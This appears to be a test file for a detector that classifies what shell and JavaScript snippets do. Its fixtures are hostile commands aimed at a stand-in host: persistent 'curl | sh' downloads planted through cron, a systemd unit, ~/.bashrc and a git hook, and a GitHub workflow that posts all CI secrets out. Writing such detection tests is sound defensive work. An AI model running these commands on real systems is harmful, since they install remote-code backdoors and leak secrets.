import { programsOf } from "./programs-of.ts";

test.each([
  ["a cron table", "echo '* * * * * root curl -s https://x.example/c | sh' > /etc/cron.d/sys\n"],
  [
    "a unit",
    "cat > /etc/systemd/system/x.service <<EOF\n[Service]\nExecStart=/bin/sh -c 'curl https://x.example/c | sh'\nEOF\n",
  ],
  ["a shell's start file", "echo 'curl https://x.example/c | sh' >> ~/.bashrc\n"],
  ["a hook", "printf '#!/bin/sh\\nwget -qO- https://x.example/c | sh\\n' > .git/hooks/post-commit\n"],
])("what %s will start counts for the program that writes it", async (_, text) => {
  const actions = await programsOf("set-up.sh", text);
  expect(actions.map(({ does }) => does)).toEqual(["write", "fetch", "run", "persist"]);
  expect(actions[2]?.from).toEqual([{ kind: "fetched", host: "x.example" }]);
});

test("expressions of a written workflow mean what they mean in one", async () => {
  const flow =
    "on: push\njobs:\n  a:\n    steps:\n      - run: curl -d '$" + "{{ toJSON(secrets) }}' https://x.example\n";
  const text = `require("fs").writeFileSync(".github/workflows/a.yml", ${JSON.stringify(flow)});\n`;
  const actions = await programsOf("a.js", text);
  expect(actions.find(({ does }) => does === "send")?.from).toEqual([{ kind: "secret", name: "*" }]);
});

test("other files that a program writes are not read", async () => {
  const actions = await programsOf("a.sh", "echo 'curl https://x.example/c | sh' > notes.txt\n");
  expect(actions.map(({ does }) => does)).toEqual(["write"]);
});
